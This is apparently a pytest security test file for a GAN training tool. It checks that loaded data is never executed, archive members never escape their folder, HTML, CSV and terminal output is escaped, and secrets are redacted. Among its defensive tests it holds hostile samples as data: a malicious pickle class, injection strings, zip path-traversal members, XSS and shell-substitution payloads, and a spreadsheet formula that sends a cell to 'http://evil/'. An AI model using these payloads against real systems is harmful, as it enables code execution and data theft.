"""Nothing found or fetched is executed, written elsewhere, shown as it is, or tells a secret."""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import pickle
import re
import subprocess
import time
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

import run
from tests import made_up_run, torch_files
from tests.conftest import TINY
from tests.test_triage_seed_control import dotted
from wgan_jax import train
from wgan_jax.errors import UserError
from wgan_jax.quality import statistics
from wgan_jax.quality.npz import read_npz
from wgan_jax.record import environment, ledger, pages, wandb
from wgan_jax.record.redaction import redacted, redacted_words

pytestmark = pytest.mark.filterwarnings("ignore::ResourceWarning")  # orbax's event loops

PACKAGE = Path("wgan_jax")

# Nothing is executed -----------------------------------------------------------------------------

EXECUTES = {
    *("eval", "exec", "compile", "__import__", "os.system", "os.popen", "os.execv"),
    *("pickle.load", "pickle.loads", "pickle.Unpickler", "marshal.loads", "shelve.open"),
    *("yaml.load", "yaml.unsafe_load", "torch.load", "joblib.load", "dill.load", "dill.loads"),
    *("runpy.run_path", "runpy.run_module", "importlib.import_module"),
}
# The experiment is the user's own program: naming it is asking for it to be run.
# The package looks up its own modules, by names of its own.
JUSTIFIED = {("experiment.py", "runpy.run_path"), ("__init__.py", "importlib.import_module")}


def dangers(source: str) -> Iterator[str]:
    """Each call in a module's source that may execute what it is given, or unpacks archives."""
    for node in ast.walk(ast.parse(source)):
        if not isinstance(node, ast.Call):
            continue
        name = dotted(node.func)
        if name in EXECUTES:
            yield name
        if name.endswith((".extract", ".extractall", ".unpack_archive")):
            yield name
        values = {word.arg: getattr(word.value, "value", None) for word in node.keywords}
        if values.get("shell") or values.get("allow_pickle"):
            yield f"{name} with a shell or a pickle"
        if name in ("np.load", "numpy.load") and values.get("allow_pickle", True):
            yield f"{name} without allow_pickle=False"


@pytest.mark.parametrize("path", [*sorted(PACKAGE.rglob("*.py")), Path("run.py")], ids=str)
def test_no_module_can_execute_what_it_reads(path: Path) -> None:
    found = {(path.name, what) for what in dangers(path.read_text(encoding="utf-8"))}
    assert found <= JUSTIFIED


@pytest.mark.parametrize(
    "source",
    [
        "eval(x)",
        "import pickle\npickle.load(f)",
        "np.load(path)",
        "np.load(path, allow_pickle=True)",
        "subprocess.run(x, shell=True)",
        "archive.extractall(place)",
        "yaml.load(text)",
    ],
)
def test_the_search_finds_what_it_is_for(source: str) -> None:
    assert list(dangers(source))


class Malice:
    """Unpickled by Python, this makes a folder."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.folder),)


def test_pickles_among_arrays_are_refused_and_not_executed(tmp_path: Path) -> None:
    bad = np.array([Malice(tmp_path / "owned")], object)
    np.savez(tmp_path / "x.npz", mu=bad, sigma=bad, images=bad)
    (tmp_path / "bare.npz").write_bytes(pickle.dumps(Malice(tmp_path / "owned")))
    for name in ("x.npz", "bare.npz"):
        for read in (read_npz, statistics.load):
            with pytest.raises(UserError, match="plain arrays"):
                read(tmp_path / name)
    assert not (tmp_path / "owned").exists()


def test_text_in_overrides_and_logs_is_no_program(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    call = f"__import__('os').mkdir({str(tmp_path / 'owned')!r})"
    log = tmp_path / "log.csv"
    log.write_text(f"epoch,d_loss,{call}\n0,{call},1\n1,2,3\n")
    run.main(["diagnose", str(log)])
    for field in ("critic.filters", "clip", "data.name", "seed"):
        assert run.main(["--config", "experiments/digits_wgan.py", f"--config.{field}={call}"]) == 2
    assert not (tmp_path / "owned").exists()
    capsys.readouterr()


# Nothing is written elsewhere --------------------------------------------------------------------


def test_an_archive_is_read_in_place_and_its_names_are_no_paths(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Weights may be archives; members that climb out, or are links, are refused or never used."""
    monkeypatch.setenv("WGAN_JAX_CACHE", str(tmp_path / "deep" / "cache"))
    inside = tmp_path / "deep" / "files"
    inside.mkdir(parents=True)
    link = zipfile.ZipInfo("archive/data/1")
    link.external_attr = 0o120777 << 16
    weights = torch_files.WRITERS["zip"](inside / "x.pth", {"w": np.zeros(3, np.float32)})
    with zipfile.ZipFile(weights, "a") as archive:
        archive.writestr("../../owned", b"x")
        archive.writestr("/tmp/../" * 9 + str(tmp_path / "owned"), b"x")
        archive.writestr(link, str(tmp_path / "owned"))
    with zipfile.ZipFile(inside / "x.npz", "w") as archive:
        archive.writestr("../../owned.npy", b"x")
    before = sorted(tmp_path.rglob("*"))
    for name in ("x.pth", "x.npz"):
        said = ["weights", "--from-file", str(inside / name), "--name", "mine"]
        digest = _digest(inside / name)
        assert run.main([*said, "--sha256", digest]) == 2
    with pytest.raises(UserError):
        read_npz(inside / "x.npz")
    assert sorted(tmp_path.rglob("*")) == before
    capsys.readouterr()


def _digest(path: Path) -> str:
    import hashlib

    return hashlib.sha256(path.read_bytes()).hexdigest()


HOSTILE_NAMES = ("..", "../../owned", "/etc/owned", "a\nb", "<script>alert(1)</script>", "=1+1|x")


@pytest.mark.slow
def test_names_from_data_never_become_paths(tmp_path: Path) -> None:
    """Classes and pictures may be called anything: a run writes into its folder alone."""
    rng = np.random.default_rng(0)
    pictures = tmp_path / "pictures"
    for i, name in enumerate(("<script>alert(1)<_script>", "=1+1|x", "a\nb", "$(touch owned)")):
        (pictures / name).mkdir(parents=True)
        for j in range(25):
            image = rng.integers(0, 256, (8, 8, 3), np.uint8)
            Image.fromarray(image).save(pictures / name / f"{i}{j} $(touch owned) ;..\\.png")
    home = tmp_path / "home"
    train(TINY | {"epochs": 1, "data": {"name": f"folder:{pictures}"}}, home / "run", quiet=True)
    assert {p.name for p in tmp_path.iterdir()} == {"pictures", "home"}
    assert {p.name for p in home.iterdir()} == {
        *("run", "EXPERIMENTS.md", "experiments.csv", ".experiments.lock")
    }


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_names_of_weights_never_become_paths(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("WGAN_JAX_CACHE", str(tmp_path))
    weights = torch_files.WRITERS["zip"](tmp_path / "x.pth", {"w": np.zeros(3, np.float32)})
    argv = ["weights", "--from-file", str(weights), "--name", name, "--sha256", _digest(weights)]
    assert run.main(argv) == 2
    assert {path.name for path in tmp_path.rglob("*")} <= {"x.pth", "weights"}
    capsys.readouterr()


# Nothing is shown as it is -----------------------------------------------------------------------

MARKUP = """</script><script>alert(1)</script><img src=x onerror=alert(1)>"'|`&\u2028$\\frac$"""


class Elements(HTMLParser):
    """All elements of a page with their attributes, and the texts of its scripts."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.data: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.data.append(data)


def elements(page: str) -> Elements:
    parser = Elements()
    parser.feed(page)
    return parser


def shape(parser: Elements) -> list[tuple[str, tuple[str, ...]]]:
    return [(tag, tuple(attributes)) for tag, attributes in parser.found]


def with_words(folder: Path, words: str) -> Path:
    """A run in which everything that a person or the data may name is called so."""
    made_up_run.make(folder, 40, grids=1)
    summary = {"notes": words, "finding": words, "date": words, "wandb": "", "encoder": words}
    (folder / "summary.json").write_text(json.dumps(summary | {"run": words}))
    lines = (folder / "metrics.jsonl").read_text().splitlines()
    last = json.loads(lines[-1]) | {
        "class_shares": {words: 0.5},
        "protocol": {words: words},
        "encoder": words,
        "fid_score": 3.0,
    }
    lines[-1] = json.dumps(last)
    (folder / "metrics.jsonl").write_text("\n".join(lines) + "\n")
    config = json.loads((folder / "config.json").read_text())
    config["data"] |= {"name": f"folder:{words}", "classes": words}
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "environment.json").write_text(
        json.dumps(
            {"device": words, "command": [words], "untracked": [words]}
            | {"flags": {words: words}, "versions": {words: words}}
        )
    )
    event = {"time": words, "epoch": 1, "event": words, "reason": words, "findings": []}
    (folder / "events.jsonl").write_text(json.dumps(event) + "\n")
    return folder


def test_the_page_escapes_every_name_and_note(tmp_path: Path) -> None:
    """A hostile run's page has the very elements of a harmless one, and its words as texts."""
    plain = with_words(tmp_path / "plain", "words")
    hostile = with_words(tmp_path / MARKUP.replace("/", "_"), MARKUP)
    for workdir in (plain, hostile):
        assert run.main(["report", "--workdir", str(workdir)]) == 0
    harmless_page, hostile_page = (
        (workdir / "report.html").read_text() for workdir in (plain, hostile)
    )
    assert shape(elements(hostile_page)) == shape(elements(harmless_page))
    assert "<script>alert" in "".join(elements(hostile_page).data)  # as text, and nowhere else
    data, _ = re.findall(r"<script\b[^>]*>(.*?)</script>", hostile_page, re.DOTALL)
    assert "<" not in data


def test_links_lead_to_web_addresses_only(tmp_path: Path) -> None:
    plain = with_words(tmp_path / "run", "javascript:alert(1)")
    run.main(["report", "--workdir", str(plain)])
    page = elements((plain / "report.html").read_text())
    links = [attributes.get("href") or "" for tag, attributes in page.found if tag == "a"]
    assert all(link.startswith(("https://", "http://")) for link in links)


def test_markdown_tables_keep_their_cells() -> None:
    line = pages.table(("a", "b"), [("x|y\nz", "`<b>`*\\|")]).splitlines()[-1]
    assert line.count("|") - line.count("\\|") == 3
    assert "<b>" not in line.replace("\\<b>", "")


def test_the_experiment_log_keeps_its_rows_and_no_cell_is_a_formula(tmp_path: Path) -> None:
    """A spreadsheet computes what begins with = + - or @, and may so send what it holds."""
    words = ('=HYPERLINK("http://evil/"&A1)', "+1+1", "-2+3|x", "@SUM(A1)", "\t=1", "a\n=2|b")
    for i, note in enumerate(words):
        (tmp_path / f"run{i}").mkdir()
        ledger.write_note(tmp_path / f"run{i}", note)
    (tmp_path / "=cmd|x").mkdir()
    ledger.write_note(tmp_path / "=cmd|x", "a note")
    rows = list(csv.reader(io.StringIO((tmp_path / "experiments.csv").read_text())))
    assert len(rows) == 1 + len(words) + 1
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    table = (tmp_path / "EXPERIMENTS.md").read_text().split("\n\n")[2].splitlines()
    assert len(table) == 2 + len(words) + 1
    assert len({line.count("|") - line.count("\\|") for line in table}) == 1


ESCAPES = "\x1b]0;owned\x07\x1b[31mred\x9b1m"


def test_no_escape_sequence_reaches_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """From names of columns, files and runs, notes, and settings of somebody else's run."""
    log = tmp_path / f"{ESCAPES}.csv"
    log.write_text(f"epoch,d_loss,{ESCAPES}\n" + "".join(f"{i},{i % 3},1\n" for i in range(20)))
    plain = made_up_run.make(tmp_path / ESCAPES, 12, grids=1)
    (plain / "summary.json").write_text(json.dumps({"notes": ESCAPES, "data": ESCAPES}))
    (tmp_path / f"broken{ESCAPES}").mkdir()
    (tmp_path / f"broken{ESCAPES}" / "summary.json").write_text("{")
    for command in (
        ["diagnose", str(log)],
        ["diagnose", str(tmp_path)],
        ["diagnose", str(log), "--map", f"d_loss={ESCAPES}x"],
        ["log", "--runs", str(tmp_path), "--sort", "data"],
        ["log", "--runs", str(tmp_path), "--compare", ESCAPES, ESCAPES],
        ["report", "--workdir", str(plain)],
    ):
        run.main(command)
        printed = capsys.readouterr()
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", printed.out + printed.err), command


# Nothing tells a secret --------------------------------------------------------------------------

SECRET = "s3cr3t-0123456789abcdef"


@pytest.mark.slow
def test_no_secret_of_the_environment_is_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every byte that a run leaves is searched for what the environment holds."""
    for name in ("WANDB_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "MY_PASSWORD"):
        monkeypatch.setenv(name, SECRET)
    train(TINY | {"epochs": 1}, tmp_path / "home" / "run", quiet=True)
    kept = [path for path in (tmp_path / "home").rglob("*") if path.is_file()]
    assert len(kept) > 10
    assert not [path for path in kept if SECRET.encode() in path.read_bytes()]


def test_addresses_lose_their_passwords(monkeypatch: pytest.MonkeyPatch) -> None:
    argv = ["run.py", "--config.init_from=x", f"https://me:{SECRET}@host/x", "--api-key", SECRET]
    argv += [f"--token={SECRET}", f"--config.password={SECRET}"]
    monkeypatch.setattr("sys.argv", argv)
    told = json.dumps(environment.describe(0, environment.Code()))
    assert SECRET not in told
    assert "https://…@host/x" in json.loads(told)["command"]


NAMES = "api_key access-key PRIVATE_KEY authkey secret token passwd password credential openai_key"


@pytest.mark.parametrize("name", [*NAMES.split(), "OPENAI_KEY"])
def test_every_name_of_a_secret_hides_its_value(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(f"MY_{name.upper()}", "from-env")
    for text in (
        *(f"{name} = 'abcdef'", f'{name}: str = "abcdef"', f'{{"{name}": "abcdef"}}'),
        *(f"--{name}=abcdef", f"if {name} == 'abcdef':"),
    ):
        assert "abcdef" not in redacted(text)
    assert redacted("x from-env y") == "x … y"
    assert redacted_words([f"--{name}", "abc"]) == [f"--{name}", "…"]


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("https://me:pa@ss-word9@host/x@y", "https://…@host/x@y"),
        ("--config.password=pa;ssword1234 --n 3", "--config.password=… --n 3"),
        ("['--config.token=abc,defghijkl', 'x']", "['--config.token=…', 'x']"),
        ("    python x.py --api-key sk-12345 --n 3", "    python x.py --api-key … --n 3"),
        ("password = 'abcd(efghijkl)'", "password = '…'"),
        ("api_key=f'ab{cd}efgh12'  # mine", "api_key=f'…'  # mine"),
        ("token = 'cut short", "token = '…"),
        ('token = """abc\'de"f"""', 'token = """…"""'),
        ("os.environ['MY_TOKEN'] = 'abcdefgh'", "os.environ['MY_TOKEN'] = '…'"),
        ("password: str | None = 'abcdefgh'", "password: str | None = '…'"),
        ("+password: correct horse battery", "+password: …"),
        ("token=abc)def!x, other=3", "token=…, other=3"),
        ("login(password=abc;def)", "login(password=…)"),
        ("--key=abcdef", "--key=…"),
        ("export OPENAI_KEY=abcdef", "export OPENAI_KEY=…"),
        ("openai_key: abcdef123456", "openai_key: …"),
        ("openaiKey = 'abcdef'", "openaiKey = '…'"),
        ("{'key': 'abcdef123456'}", "{'key': '…'}"),
    ],
)
def test_a_secret_is_hidden_to_its_end(text: str, kept: str) -> None:
    assert redacted(text) == kept


@pytest.mark.parametrize(
    "code",
    [
        "key = jax.random.key(0)",
        "key, other_key = jax.random.split(key_of_the_round)",
        "for key, value in sorted(found.items(), key=lambda pair: pair[1]):",
        "sorted(names, key=len_of_the_name)",
        "key = 'inception_score_mean'",
        "def f(root_key: Array, key: jax.Array, epoch_key=default_key) -> None:",
        "if key == 'generated_image_mean' and key in KEYS:",
        'metavar="KEY=COLUMN,..."',
        "token = tokenizer.next_token(text)",
        "password = os.environ['MY_PASSWORD']",
        "f(token=None), f(secret=True, tokens=[])",
        "secrets: dict[str, str] = {}",
        "monkey = 'abcdef123456'",
        "tokens_in = sequence[first_of_them:]",
        "a = f'https://{host}/{path}@{version}'",
        'say(f"--token={token}")',
        "/etc/passwd  => it is no address: check --url",
    ],
)
def test_code_that_only_sounds_like_a_secret_stays_readable(code: str) -> None:
    assert redacted(f"+{code}\n") == f"+{code}\n"


def test_of_a_command_line_all_that_follows_a_secrets_name_is_hidden() -> None:
    words = ["run.py", "--key", "abcdef123456", "--n", "3", "--config.password=a b;'c(d", "KEY=x"]
    words += ["--config.token=", "--map=d_loss=key", "--config.name=keyhole"]
    assert redacted_words(words) == [
        *("run.py", "--key", "…", "--n", "3", "--config.password=…", "KEY=…"),
        *("--config.token=", "--map=d_loss=key", "--config.name=keyhole"),
    ]


@pytest.mark.parametrize(
    ("line", "kept"),
    [
        ("--password correct horse battery --n 3", "--password … … … --n 3"),
        ("--token --begins-so and more -v", "--token … … … -v"),
        ("--openaiKey sk12 --wandbkey=sk12", "--openaiKey … --wandbkey=…"),
        ("--keypad 12 --sort key up", "--keypad 12 --sort key up"),
    ],
)
def test_a_secret_of_a_command_line_may_be_several_words_and_its_flag_end_in_key(
    line: str, kept: str
) -> None:
    assert " ".join(redacted_words(line.split())) == kept


def test_long_lines_of_a_change_are_searched_at_once() -> None:
    """Of minified code and data; a pattern that begins anew at every sign would take hours."""
    began = time.monotonic()
    for sign in ("token", "-", 'x_key="', "key='", "--key 0", "password:", "\\", " ", "x@"):
        redacted(sign * (10**5 // len(sign)))
    assert time.monotonic() - began < 20


def test_an_uncommitted_change_loses_its_secrets(tmp_path: Path) -> None:
    source = tmp_path / "code.py"
    source.write_text("x = 1\n")
    git = ["git", "-C", str(tmp_path), "-c", "user.name=n", "-c", "user.email=e@example.com"]
    remote = f"https://me:{SECRET}@host/x.git"
    for command in (["init", "-q"], ["remote", "add", "origin", remote], ["add", "code.py"]):
        subprocess.run([*git, *command], check=True, capture_output=True)
    subprocess.run([*git, "commit", "-qm", "First"], check=True, capture_output=True)
    source.write_text(
        f"x = 2\nurl = 'https://me:{SECRET}@host/'\nAPI_KEY = '{SECRET}'\npassword: {SECRET}\n"
        f"token={SECRET}\n"
    )
    code = environment.code_state(source)
    assert b"+x = 2" in code.diff
    assert SECRET.encode() not in code.diff
    assert SECRET not in repr(environment.describe(0, code))


def test_wandb_is_told_no_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Of arguments and of git's remote, which it would collect on its own."""
    for name in ("WANDB_API_KEY", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, SECRET)
    monkeypatch.setenv("WANDB_MODE", "offline")
    monkeypatch.setattr("sys.argv", ["run.py", f"https://me:{SECRET}@host/x", SECRET])
    begun = wandb.init_wandb("name", {"seed": 1}, mode="offline", workdir=tmp_path)
    begun.finish()
    kept = [path for path in (tmp_path / "wandb").rglob("*") if path.is_file()]
    assert any(path.suffix == ".wandb" for path in kept)
    assert not [path for path in kept if SECRET.encode() in path.read_bytes()]
